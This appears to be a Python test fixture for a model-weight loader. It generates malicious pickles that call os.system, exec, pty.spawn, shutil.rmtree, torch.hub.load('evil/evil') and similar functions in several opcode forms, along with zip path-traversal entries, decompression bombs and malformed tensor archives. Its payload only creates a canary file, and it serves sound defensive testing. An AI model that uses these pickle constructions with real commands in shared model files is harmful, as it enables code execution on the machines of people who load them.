"""Weights that are made to run code or to harm their reader: pickles of all kinds and zip archives around them.

The code that they would run makes the file that `CANARY` names, in the environment of whoever runs it.
"""

from __future__ import annotations

import io
import pickle
import pickletools
import struct
import zipfile
from collections.abc import Callable, Iterator
from functools import partial
from typing import Any, Final

import torch
from chaos.hostile.case import Case

CANARY: Final = "HOSTILE_CANARY"
_CODE: Final = f"import os; open(os.environ['{CANARY}'], 'w').close()"
_SHELL: Final = f'touch "${CANARY}"'
# What a pickle may name to have code run, and what it is given.
_CALLS: Final[tuple[tuple[str, str, tuple[Any, ...]], ...]] = (
    ("os", "system", (_SHELL,)),
    ("posix", "system", (_SHELL,)),
    ("subprocess", "getoutput", (_SHELL,)),
    ("subprocess", "Popen", (_SHELL, -1, None, None, None, None, None, True, True)),
    ("builtins", "exec", (_CODE,)),
    ("builtins", "eval", (f"exec({_CODE!r})",)),
    ("__builtin__", "eval", (f"exec({_CODE!r})",)),
    ("builtins", "__import__", ("antigravity",)),
    ("runpy", "run_path", ("/proc/self/environ",)),
    ("code", "interact", ()),
    ("pty", "spawn", ("/bin/sh",)),
    ("timeit", "timeit", ("0", _CODE)),
    ("cProfile", "run", (_CODE,)),
    ("pydoc", "pipepager", ("x", _SHELL)),
    ("ctypes", "CDLL", ("/nowhere.so",)),
    ("torch", "load", ("/etc/passwd",)),
    ("torch.hub", "load", ("evil/evil", "evil")),
    ("torch.utils.cpp_extension", "load_inline", ("x", "int x;")),
    ("torch._C", "_jit_script_compile", ()),
    ("torch.storage", "_load_from_bytes", (b"x",)),
    ("numpy", "load", ("/etc/passwd",)),
    ("shutil", "rmtree", ("/nowhere",)),
    ("socket", "create_connection", (("127.0.0.1", 9),)),
    ("sys", "exit", (0,)),
    ("os", "_exit", (0,)),
    ("os", "abort", ()),
    ("builtins", "getattr", ("", "join")),
    ("operator", "attrgetter", ("__class__.__base__",)),
)


def cases() -> list[Case]:
    """Each call in each form that a pickle has for it, bare and inside a torch archive, and broken or swelling archives."""
    return [Case(family="pickle", name=name, build=build) for name, build in _pickles()] + [
        Case(family="archive", name=name, build=build) for name, build in _archives().items()
    ]


def _pickles() -> Iterator[tuple[str, Callable[[], bytes]]]:
    for module, name, arguments in _CALLS:
        for form, write in _FORMS.items():
            content = write(module, name, arguments)
            yield f"{module}.{name} by {form}", partial(bytes, content)
            yield f"{module}.{name} by {form}, in an archive", partial(_archive, content)


def _text(value: str) -> bytes:
    return b"X" + struct.pack("<I", len(value.encode())) + value.encode()


def _pushed(arguments: tuple[Any, ...]) -> bytes:
    """The instructions that push a tuple, without head and end."""
    return pickletools.optimize(pickle.dumps(arguments, 2))[2:-1]


def _each(arguments: tuple[Any, ...]) -> bytes:
    return b"".join(pickletools.optimize(pickle.dumps(argument, 2))[2:-1] for argument in arguments)


def _in_dict(call: bytes) -> bytes:
    """A state dict whose only value is what the call gives."""
    return b"\x80\x02}" + _text("head.weight") + call + b"s."


_FORMS: Final[dict[str, Callable[[str, str, tuple[Any, ...]], bytes]]] = {
    "GLOBAL and REDUCE": lambda module, name, arguments: _in_dict(
        f"c{module}\n{name}\n".encode() + _pushed(arguments) + b"R"
    ),
    "STACK_GLOBAL": lambda module, name, arguments: (
        b"\x80\x04" + _in_dict(_text(module) + _text(name) + b"\x93" + _pushed(arguments) + b"R")[2:]
    ),
    "INST": lambda module, name, arguments: _in_dict(
        b"(" + _each(arguments) + f"i{module}\n{name}\n".encode()
    ),
    "OBJ": lambda module, name, arguments: _in_dict(
        b"(" + f"c{module}\n{name}\n".encode() + _each(arguments) + b"o"
    ),
    "NEWOBJ": lambda module, name, arguments: _in_dict(
        f"c{module}\n{name}\n".encode() + _pushed(arguments) + b"\x81"
    ),
    "BUILD": lambda module, name, arguments: _in_dict(
        b"ccollections\nOrderedDict\n)R}"
        + _text("__setstate__")
        + f"c{module}\n{name}\n".encode()
        + b"sb"
        + _pushed(arguments)
        + b"b"
    ),
}


# A state dict, or any other pickle, that runs code when it is read without care.
RUNS_CODE: Final = _FORMS["GLOBAL and REDUCE"]("os", "system", (_SHELL,))


def _archive(
    pickled: bytes, extra: dict[str, bytes] | None = None, method: int = zipfile.ZIP_STORED
) -> bytes:
    """A .pth as torch writes it, around any pickle."""
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", method) as packed:
        packed.writestr("archive/data.pkl", pickled)
        packed.writestr("archive/version", "3\n")
        packed.writestr("archive/byteorder", "little")
        for name, content in (extra or {}).items():
            packed.writestr(f"archive/{name}", content)
    return file.getvalue()


def _saved(weights: object) -> bytes:
    file = io.BytesIO()
    torch.save(weights, file)
    return file.getvalue()


def _swapped(old: bytes, new: bytes) -> bytes:
    """A plain state dict with something else where its pickle has `old`."""
    with zipfile.ZipFile(io.BytesIO(_saved({"head.weight": torch.zeros(4, 4)}))) as packed:
        pickled = packed.read("archive/data.pkl")
        return _archive(pickled.replace(old, new), {"data/0": bytes(64)})


def _tensor(shape: tuple[int, ...], stride: tuple[int, ...], offset: int = 0, num_items: int = 16) -> bytes:
    """A tensor that claims any shape over a storage of 16 numbers."""

    def tuple_of(values: tuple[int, ...]) -> bytes:
        return _pushed(values)

    storage = (
        b"("
        + _text("storage")
        + b"ctorch\nFloatStorage\n"
        + _text("0")
        + _text("cpu")
        + pickletools.optimize(pickle.dumps(num_items, 2))[2:-1]
        + b"tQ"
    )
    pickled = _in_dict(
        b"ctorch._utils\n_rebuild_tensor_v2\n("
        + storage
        + pickletools.optimize(pickle.dumps(offset, 2))[2:-1]
        + tuple_of(shape)
        + tuple_of(stride)
        + b"\x89ccollections\nOrderedDict\n)RtR"
    )
    return _archive(pickled, {"data/0": bytes(64)})


def _bomb(num_mib: int) -> bytes:
    """A state dict of zeros, compressed to nearly nothing."""
    return _archive(b"\x80\x02}.", {"data/0": bytes(num_mib << 20)}, zipfile.ZIP_DEFLATED)


def _deep(opening: bytes, closing: bytes) -> bytes:
    return b"\x80\x02" + opening * 200_000 + closing * 200_000 + b"."


def _memo_bomb() -> bytes:
    """A list of lists of lists, each ten times the one before: 10^30 items by name."""
    return (
        b"\x80\x02]q\0"
        + b"".join(
            b"](" + b"h" + bytes([level]) * 1 + (b"h" + bytes([level])) * 9 + b"eq" + bytes([level + 1])
            for level in range(30)
        )
        + b"."
    )


def _archives() -> dict[str, Callable[[], bytes]]:
    good = _saved({"head.weight": torch.zeros(4, 4)})
    files: dict[str, bytes] = {
        "nothing": b"",
        "one byte": b"\x80",
        "noise": torch.Generator().manual_seed(3).get_state().numpy().tobytes()[:4000],
        "half an archive": good[: len(good) // 2],
        "an archive without a directory": good[:-22],
        "a directory that points beyond": good[:-6] + struct.pack("<I", 2**32 - 2) + good[-2:],
        "the wrong number of files": good.replace(b"PK\x05\x06\0\0\0\0", b"PK\x05\x06\0\0\0\0", 1)[:-12]
        + b"\xff" * 12,
        "an archive in an archive": _archive(good),
        "an archive with names that lead elsewhere": _archive(b"\x80\x02}.", {"../../../evil": b"x"}),
        "zeros for a pickle": _archive(bytes(1000)),
        "a list": _saved([torch.zeros(3)]),
        "a number": _saved(7),
        "a tensor": _saved(torch.zeros(3)),
        "an empty dict": _saved({}),
        "numbers for names": _saved({1: torch.zeros(3)}),
        "a whole network": _saved_module(),
        "a surplus tensor": _saved({"surplus": torch.zeros(2)}),
        "text for tensors": _saved({"head.weight": "zeros"}),
        "sparse": _saved({"head.weight": torch.zeros(4, 4).to_sparse()}),
        "complex": _saved({"head.weight": torch.zeros(4, 4, dtype=torch.complex64)}),
        "quantized": _saved({"head.weight": torch.quantize_per_tensor(torch.zeros(4), 0.1, 0, torch.qint8)}),
        "NaN": _saved({"head.weight": torch.full((4, 4), float("nan"))}),
        "on a GPU": _swapped(b"cpu", b"gpu"),
        "on no device": _swapped(b"cpu", b"abc"),
        "another storage": _swapped(b"FloatStorage", b"EvilStorage\0"[:12]),
        "deep lists": _deep(b"]", b"a"),
        "deep tuples": _deep(b"(", b"t"),
        "a list of 10^30": _memo_bomb(),
        "a text of 2**31 bytes": b"\x80\x02}" + b"X" + struct.pack("<I", 2**31 - 1) + b"x.",
        "bytes of 2**60": b"\x80\x04\x8e" + struct.pack("<Q", 2**60) + b"x.",
        "a number of 2**31 bytes": b"\x80\x02\x8b" + struct.pack("<i", 2**31 - 1) + b"x.",
        "a number of negative size": b"\x80\x02\x8b" + struct.pack("<i", -5) + b"x.",
        "memo 2**32": b"\x80\x02}r" + struct.pack("<I", 2**32 - 1) + b".",
        "persistent ids": _in_dict(_text("x") + b"Q"),
        "extension codes": _in_dict(b"\x82\x01"),
        "protocol 99": b"\x80\x63}.",
        "protocol 0 text": b"cos\nsystem\n(S'true'\ntR.",
        "legacy magic": pickle.dumps(0x1950A86A20F9469CFC6C, 2)
        + pickle.dumps(1001, 2)
        + b"\x80\x02cos\nsystem\n.",
        "a tar": b"pickle\0".ljust(257, b"\0") + b"ustar\x0000".ljust(1000, b"\0"),
    }
    for shape, stride in (
        ((2**40,), (1,)), ((2**31, 2**31), (1, 1)), ((-5,), (1,)), ((4, 4), (-1, -1)), ((4, 4), (2**60, 1)),
        ((2**62, 4), (0, 0)), ((4,) * 70, (0,) * 70),
    ):  # fmt: skip
        files[f"a tensor of {shape[:3]} by {stride[:3]}"] = _tensor(shape, stride)
    files["a tensor that begins at -9"] = _tensor((4, 4), (4, 1), offset=-9)
    files["a tensor that begins at 2**60"] = _tensor((4, 4), (4, 1), offset=2**60)
    files["a storage of 2**60"] = _tensor((4, 4), (4, 1), num_items=2**60)
    found: dict[str, Callable[[], bytes]] = {name: partial(bytes, content) for name, content in files.items()}
    return found | {f"a bomb of {size} MiB": partial(_bomb, size) for size in (64, 512)}


def _saved_module() -> bytes:
    file = io.BytesIO()
    torch.save(torch.nn.Linear(2, 2), file)
    return file.getvalue()
